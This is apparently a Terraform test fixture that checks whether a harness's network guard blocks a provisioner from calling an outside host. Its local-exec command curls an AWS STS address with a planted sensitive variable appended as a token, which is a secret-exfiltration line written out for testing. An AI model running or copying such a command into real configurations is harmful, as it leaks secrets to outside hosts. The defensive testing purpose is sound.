# Probe: a provisioner that asks for a host other than the emulator from a process whose working folder is
# outside the run's folder (working_dir = "/"). It goes through the harness's proxy variables (loopback only);
# the network guard refuses it, and the run must fail with exit 2 wherever the process ran. The request carries
# a sensitive value, which must appear in no output.
# https://developer.hashicorp.com/terraform/language/resources/provisioners/local-exec
variable "name_prefix" {
  type        = string
  description = "Prefix of every name (the harness gives a unique one)."
}

variable "planted" {
  type        = string
  description = "A secret the test plants (TF_VAR_planted)."
  sensitive   = true
}

resource "terraform_data" "phone_home" {
  input = var.name_prefix

  provisioner "local-exec" {
    working_dir = "/"
    command     = "curl --silent --show-error --max-time 10 --output /dev/null 'http://sts.us-east-1.amazonaws.com/?token=${var.planted}'"
  }
}
